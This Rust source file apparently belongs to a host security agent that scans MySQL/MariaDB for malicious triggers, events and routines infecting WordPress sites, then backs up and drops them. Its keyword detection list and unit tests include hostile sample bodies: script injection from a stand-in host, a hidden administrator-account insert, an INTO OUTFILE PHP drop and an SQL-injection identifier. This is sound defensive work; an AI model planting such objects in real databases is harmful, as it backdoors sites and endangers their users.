// SPDX-License-Identifier: GPL-2.0-only
//! Malicious MySQL/MariaDB objects: triggers, events, procedures and functions whose
//! bodies inject script into pages, create administrator accounts, write files or run
//! commands (how compromised WordPress databases reinfect a cleaned site). They are
//! found by a periodic pass over `information_schema` and reported as
//! `db_malicious_object`; the finding's fix drops the object after its CREATE
//! statement is kept in the store (`db_object_backups`), and a restore replays it.
//!
//! The server is reached through its own command-line client (`mariadb` or `mysql`)
//! as root, the way the host's administrator reaches it (unix-socket auth, or
//! `/root/.my.cnf` on cPanel). Names come from customers: every identifier is quoted
//! (backticks doubled), every SQL text Rampart sends is built here, and what the
//! client prints is unescaped from its batch format, never interpreted.

use std::{
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::Duration,
};

use serde::{Deserialize, Serialize};

/// The finding's check.
pub const CHECK_DB_OBJECT: &str = "db_malicious_object";
/// Clients tried when `detection.databases.client` is empty.
pub const CLIENTS: &[&str] = &["/usr/bin/mariadb", "/usr/bin/mysql"];
/// Schemas of the server itself, never scanned (`sys` is full of procedures).
const SYSTEM_SCHEMAS: &[&str] = &["mysql", "sys", "information_schema", "performance_schema"];
/// Longest a client call may take.
const CLIENT_TIMEOUT: Duration = Duration::from_secs(60);
/// Bytes of client output read, at most.
const MAX_OUTPUT: usize = 64 << 20;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    Trigger,
    Event,
    Procedure,
    Function,
}

impl Kind {
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Trigger => "trigger",
            Kind::Event => "event",
            Kind::Procedure => "procedure",
            Kind::Function => "function",
        }
    }

    pub fn parse(s: &str) -> Option<Self> {
        Some(match s.to_ascii_lowercase().as_str() {
            "trigger" => Kind::Trigger,
            "event" => Kind::Event,
            "procedure" => Kind::Procedure,
            "function" => Kind::Function,
            _ => return None,
        })
    }

    /// The SQL keyword.
    fn keyword(self) -> &'static str {
        match self {
            Kind::Trigger => "TRIGGER",
            Kind::Event => "EVENT",
            Kind::Procedure => "PROCEDURE",
            Kind::Function => "FUNCTION",
        }
    }

    /// The column of `SHOW CREATE <kind>` holding the statement.
    fn create_column(self) -> usize {
        match self {
            Kind::Event => 3,
            _ => 2,
        }
    }
}

/// One object found in a schema.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct DbObject {
    pub schema: String,
    pub kind: Kind,
    pub name: String,
    pub body: String,
}

/// A finding's `details`: what the fix needs to find the object again.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Details {
    pub schema: String,
    pub kind: Kind,
    pub name: String,
    pub reasons: Vec<String>,
    /// The body's first 300 characters.
    pub excerpt: String,
}

#[derive(Debug, thiserror::Error)]
pub enum DbError {
    #[error("no MySQL or MariaDB client on this host (tried {0})")]
    NoClient(String),
    #[error("running {bin}: {source}")]
    Spawn { bin: String, source: std::io::Error },
    #[error("the database server refused: {0}")]
    Server(String),
    #[error("{0} timed out")]
    Timeout(String),
    #[error("{0}")]
    Gone(String),
}

/// `SHOW CREATE`'s output for an object: the statement and the sql_mode it was
/// created under.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Create {
    pub sql: String,
    pub sql_mode: String,
}

/// The server through its command-line client.
#[derive(Clone, Debug)]
pub struct Client {
    bin: PathBuf,
    socket: Option<PathBuf>,
}

/// `` `name` `` with backticks doubled: safe for any identifier a customer chose.
pub fn quote(ident: &str) -> String {
    format!("`{}`", ident.replace('`', "``"))
}

/// The client's batch output: rows of tab-separated fields, with `\t`, `\n`, `\\`
/// and `\0` escaped.
fn unescape(field: &str) -> String {
    let mut out = String::with_capacity(field.len());
    let mut it = field.chars();
    while let Some(c) = it.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match it.next() {
            Some('t') => out.push('\t'),
            Some('n') => out.push('\n'),
            Some('0') => out.push('\0'),
            Some('\\') => out.push('\\'),
            Some(o) => {
                out.push('\\');
                out.push(o);
            }
            None => out.push('\\'),
        }
    }
    out
}

fn rows(out: &str) -> Vec<Vec<String>> {
    out.lines()
        .map(|l| l.split('\t').map(unescape).collect())
        .collect()
}

impl Client {
    /// The configured client (`client`, `socket`), or the first of [`CLIENTS`].
    pub fn find(client: &Path, socket: &Path) -> Result<Self, DbError> {
        let bin = if client.as_os_str().is_empty() {
            CLIENTS
                .iter()
                .map(PathBuf::from)
                .find(|p| p.is_file())
                .ok_or_else(|| DbError::NoClient(CLIENTS.join(", ")))?
        } else if client.is_file() {
            client.to_path_buf()
        } else {
            return Err(DbError::NoClient(client.display().to_string()));
        };
        Ok(Self {
            bin,
            socket: (!socket.as_os_str().is_empty()).then(|| socket.to_path_buf()),
        })
    }

    fn command(&self) -> Command {
        let mut c = Command::new(&self.bin);
        if let Some(s) = &self.socket {
            c.arg(format!("--socket={}", s.display()));
        }
        c.args(["--user=root", "--batch", "--skip-column-names"])
            .env("LC_ALL", "C")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c
    }

    /// Run `sql` (sent on stdin), bounded in time and output.
    fn run(&self, sql: &str) -> Result<String, DbError> {
        let mut child = self.command().spawn().map_err(|e| DbError::Spawn {
            bin: self.bin.display().to_string(),
            source: e,
        })?;
        let input = sql.as_bytes().to_vec();
        let mut stdin = child.stdin.take();
        let writer = std::thread::spawn(move || {
            if let Some(s) = stdin.as_mut() {
                let _ = s.write_all(&input);
            }
        });
        let (tx, rx) = std::sync::mpsc::channel();
        let pid = child.id();
        let waiter = std::thread::spawn(move || {
            let _ = tx.send(child.wait_with_output());
        });
        let out = match rx.recv_timeout(CLIENT_TIMEOUT) {
            Ok(r) => r.map_err(|e| DbError::Spawn {
                bin: self.bin.display().to_string(),
                source: e,
            })?,
            Err(_) => {
                // SAFETY: signalling our own child by pid.
                unsafe { libc::kill(pid as i32, libc::SIGKILL) };
                let _ = waiter.join();
                return Err(DbError::Timeout(format!("{}", self.bin.display())));
            }
        };
        let _ = writer.join();
        let _ = waiter.join();
        if !out.status.success() {
            // The client echoes the failing statement between dashes, then says why.
            let err = String::from_utf8_lossy(&out.stderr);
            let why = err
                .lines()
                .find(|l| l.starts_with("ERROR"))
                .or_else(|| {
                    err.lines()
                        .find(|l| !l.trim().is_empty() && !l.starts_with("---"))
                })
                .unwrap_or("failed");
            return Err(DbError::Server(why.trim().chars().take(500).collect()));
        }
        let mut stdout = out.stdout;
        stdout.truncate(MAX_OUTPUT);
        Ok(String::from_utf8_lossy(&stdout).into_owned())
    }

    /// Every trigger, event, procedure and function outside the system schemas.
    pub fn objects(&self) -> Result<Vec<DbObject>, DbError> {
        let out = self.run(
            "SELECT TRIGGER_SCHEMA, 'trigger', TRIGGER_NAME, ACTION_STATEMENT FROM information_schema.TRIGGERS;
             SELECT EVENT_SCHEMA, 'event', EVENT_NAME, EVENT_DEFINITION FROM information_schema.EVENTS;
             SELECT ROUTINE_SCHEMA, LOWER(ROUTINE_TYPE), ROUTINE_NAME, ROUTINE_DEFINITION FROM information_schema.ROUTINES;",
        )?;
        Ok(rows(&out)
            .into_iter()
            .filter_map(|r| {
                let [schema, kind, name, body]: [String; 4] = r.try_into().ok()?;
                if SYSTEM_SCHEMAS.contains(&schema.as_str()) {
                    return None;
                }
                Some(DbObject {
                    kind: Kind::parse(&kind)?,
                    schema,
                    name,
                    body,
                })
            })
            .collect())
    }

    /// The statement that makes the object again.
    pub fn show_create(&self, schema: &str, kind: Kind, name: &str) -> Result<Create, DbError> {
        let out = self.run(&format!(
            "SHOW CREATE {} {}.{};",
            kind.keyword(),
            quote(schema),
            quote(name)
        ))?;
        let row = rows(&out)
            .into_iter()
            .next()
            .ok_or_else(|| DbError::Gone(format!("{} {schema}.{name} is gone", kind.as_str())))?;
        let sql = row
            .get(kind.create_column())
            .filter(|s| s.as_str() != "NULL" && !s.is_empty())
            .ok_or_else(|| DbError::Server("SHOW CREATE returned no statement".into()))?;
        Ok(Create {
            sql: sql.clone(),
            sql_mode: row.get(1).cloned().unwrap_or_default(),
        })
    }

    pub fn drop_object(&self, schema: &str, kind: Kind, name: &str) -> Result<(), DbError> {
        self.run(&format!(
            "DROP {} {}.{};",
            kind.keyword(),
            quote(schema),
            quote(name)
        ))
        .map(|_| ())
    }

    /// Replay a kept CREATE statement in its schema, under its sql_mode.
    pub fn restore(&self, schema: &str, c: &Create) -> Result<(), DbError> {
        // A delimiter the statement does not contain (bodies hold `;`); the client
        // takes at most 16 bytes.
        let delim = loop {
            let d = format!("$${:08x}$$", rand::random::<u32>());
            if !c.sql.contains(&d) {
                break d;
            }
        };
        let mode = if c
            .sql_mode
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b == b'_' || b == b',')
        {
            format!("SET SESSION sql_mode = '{}';\n", c.sql_mode)
        } else {
            String::new()
        };
        self.run(&format!(
            "USE {};\n{mode}DELIMITER {delim}\n{}{delim}\nDELIMITER ;\n",
            quote(schema),
            c.sql
        ))
        .map(|_| ())
    }
}

/// Why a body is malicious, if it is: each reason once.
pub fn reasons(body: &str) -> Vec<&'static str> {
    let b = body.to_ascii_lowercase();
    let has = |n: &str| b.contains(n);
    let mut out = Vec::new();
    if has("<script")
        || has("<iframe")
        || has("document.write")
        || has("fromcharcode")
        || has("window.location")
        || has("atob(")
        || has("eval(")
    {
        out.push("injects script into pages");
    }
    if has("base64_decode") || has("gzinflate") || has("str_rot13") {
        out.push("carries encoded PHP");
    }
    if has("insert") && has("users") && (has("administrator") || has("capabilities")) {
        out.push("creates administrator accounts");
    }
    if has("into outfile") || has("into dumpfile") || has("load_file(") {
        out.push("reads or writes server files");
    }
    if has("sys_exec") || has("sys_eval") || has("lib_mysqludf") {
        out.push("runs commands");
    }
    out
}

/// The hosting account a schema belongs to: cPanel names databases
/// `<user>_<name>`; the user must exist on this host.
pub fn account_of(schema: &str) -> Option<String> {
    let (user, _) = schema.split_once('_')?;
    nix::unistd::User::from_name(user)
        .ok()
        .flatten()
        .map(|u| u.name)
}

/// The database checks shared with the API: the periodic pass, the fix (drop with
/// a backup) and the restore.
pub struct Databases {
    cfg: crate::config::Databases,
    findings: std::sync::Arc<crate::findings::Findings>,
    store: crate::store::Store,
}

/// What restoring a backup needs that failed.
#[derive(Debug, thiserror::Error)]
pub enum RestoreError {
    #[error("no backup {0:?}")]
    NotFound(String),
    #[error("already restored at {0}")]
    Restored(String),
    #[error(transparent)]
    Db(#[from] DbError),
    #[error(transparent)]
    Store(#[from] crate::store::StoreError),
}

impl Databases {
    pub fn new(
        cfg: &crate::config::Config,
        findings: std::sync::Arc<crate::findings::Findings>,
        store: crate::store::Store,
    ) -> Self {
        Self {
            cfg: cfg.detection.databases.clone(),
            findings,
            store,
        }
    }

    fn client(&self) -> Result<Client, DbError> {
        Client::find(&self.cfg.client, &self.cfg.socket)
    }

    /// Check every object once; returns how many are malicious.
    pub async fn pass(&self) -> Result<usize, DbError> {
        let client = self.client()?;
        let objects = tokio::task::spawn_blocking(move || client.objects())
            .await
            .map_err(|e| DbError::Server(format!("the pass panicked: {e}")))??;
        let mut bad = 0;
        for o in objects {
            let why = reasons(&o.body);
            if why.is_empty() {
                continue;
            }
            bad += 1;
            let details = Details {
                schema: o.schema.clone(),
                kind: o.kind,
                name: o.name.clone(),
                reasons: why.iter().map(|r| r.to_string()).collect(),
                excerpt: o.body.chars().take(300).collect(),
            };
            let f = crate::store::NewFinding {
                details: serde_json::to_string(&details).unwrap_or_default(),
                account: account_of(&o.schema),
                key: Some(format!(
                    "{CHECK_DB_OBJECT}:{}:{}:{}",
                    o.kind.as_str(),
                    o.schema,
                    o.name
                )),
                ..crate::store::NewFinding::new(
                    CHECK_DB_OBJECT,
                    api::model::Severity::Critical,
                    format!(
                        "Malicious MySQL {} {}.{}: {}",
                        o.kind.as_str(),
                        quote(&o.schema),
                        quote(&o.name),
                        why.join(", ")
                    ),
                )
            };
            self.findings.report(f).await;
        }
        Ok(bad)
    }

    /// The fix: keep the object's CREATE statement, then drop it. Refused (Gone)
    /// when the object is no longer there or no longer malicious (replaced since).
    pub async fn drop_for(
        &self,
        finding: &api::model::Finding,
        actor: &str,
    ) -> Result<String, DbError> {
        let d: Details = serde_json::from_str(&finding.details)
            .map_err(|e| DbError::Gone(format!("the finding names no object: {e}")))?;
        let client = self.client()?;
        let (schema, name, kind) = (d.schema.clone(), d.name.clone(), d.kind);
        let create = {
            let c = client.clone();
            tokio::task::spawn_blocking(move || c.show_create(&schema, kind, &name))
                .await
                .map_err(|e| DbError::Server(format!("panicked: {e}")))??
        };
        if reasons(&create.sql).is_empty() {
            return Err(DbError::Gone(format!(
                "{} {}.{} is no longer malicious (replaced since); not dropped",
                kind.as_str(),
                quote(&d.schema),
                quote(&d.name)
            )));
        }
        let key = self
            .store
            .add_db_object_backup(crate::store::NewDbObjectBackup {
                account: finding.account.clone().unwrap_or_default(),
                schema: d.schema.clone(),
                kind: kind.as_str().into(),
                name: d.name.clone(),
                create_sql: create.sql,
                sql_mode: create.sql_mode,
                finding_id: Some(finding.id),
                dropped_by: actor.into(),
            })
            .await
            .map_err(|e| DbError::Server(format!("keeping the backup: {e}")))?;
        let (schema, name) = (d.schema.clone(), d.name.clone());
        tokio::task::spawn_blocking(move || client.drop_object(&schema, kind, &name))
            .await
            .map_err(|e| DbError::Server(format!("panicked: {e}")))??;
        tracing::warn!(schema = %d.schema, kind = kind.as_str(), name = %d.name, key, actor, "Malicious database object dropped; its backup is kept.");
        Ok(key)
    }

    /// Replay a backup's CREATE statement in its schema.
    pub async fn restore(&self, key: &str) -> Result<crate::store::DbObjectBackup, RestoreError> {
        let b = self
            .store
            .db_object_backup(key.to_string())
            .await?
            .ok_or_else(|| RestoreError::NotFound(key.into()))?;
        if b.restored {
            return Err(RestoreError::Restored(b.restored_at));
        }
        let client = self.client()?;
        let (schema, create) = (
            b.schema.clone(),
            Create {
                sql: b.create_sql.clone(),
                sql_mode: b.sql_mode.clone(),
            },
        );
        tokio::task::spawn_blocking(move || client.restore(&schema, &create))
            .await
            .map_err(|e| DbError::Server(format!("panicked: {e}")))??;
        self.store.mark_db_object_restored(key.to_string()).await?;
        Ok(b)
    }
}

/// A pass every `interval_secs` until shutdown (the first after one interval). A
/// host without a client or server is said once, then checked again each interval.
pub async fn run(
    db: std::sync::Arc<Databases>,
    mut shutdown: tokio::sync::watch::Receiver<bool>,
) -> anyhow::Result<()> {
    if !db.cfg.enabled {
        let _ = shutdown.changed().await;
        return Ok(());
    }
    let every = Duration::from_secs(db.cfg.interval_secs);
    let mut said = false;
    loop {
        tokio::select! {
            _ = tokio::time::sleep(every) => {}
            _ = shutdown.changed() => return Ok(()),
        }
        match db.pass().await {
            Ok(n) => {
                said = false;
                tracing::debug!(malicious = n, "Database objects checked.");
            }
            Err(e) if !said => {
                said = true;
                tracing::info!(error = %e, "Database objects not checked.");
            }
            Err(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identifiers_are_quoted_and_batch_output_unescaped() {
        assert_eq!(
            quote("evil`; DROP DATABASE x; --"),
            "`evil``; DROP DATABASE x; --`"
        );
        let r = rows("a\\tb\tc\\\\n\\n\td\\0\n2\t3\n");
        assert_eq!(r[0], ["a\tb", "c\\n\n", "d\0"]);
        assert_eq!(r[1], ["2", "3"]);
    }

    #[test]
    fn malicious_bodies_are_named_and_ordinary_ones_not() {
        assert_eq!(
            reasons("BEGIN SET NEW.post_content = CONCAT(NEW.post_content, '<script src=//x.example/a.js></script>'); END"),
            ["injects script into pages"]
        );
        assert_eq!(
            reasons("BEGIN INSERT INTO wp_users (user_login) VALUES ('wpadm'); INSERT INTO wp_usermeta VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}'); END"),
            ["creates administrator accounts"]
        );
        assert_eq!(
            reasons("SELECT '<?php' INTO OUTFILE '/home/u/public_html/x.php'"),
            ["reads or writes server files"]
        );
        // What plugins do: counters, timestamps, cleanup.
        for ok in [
            "BEGIN UPDATE wp_stats SET hits = hits + 1 WHERE id = NEW.id; END",
            "DELETE FROM wp_sessions WHERE expires < NOW()",
            "BEGIN SET NEW.updated_at = NOW(); END",
        ] {
            assert!(reasons(ok).is_empty(), "{ok}");
        }
    }
}
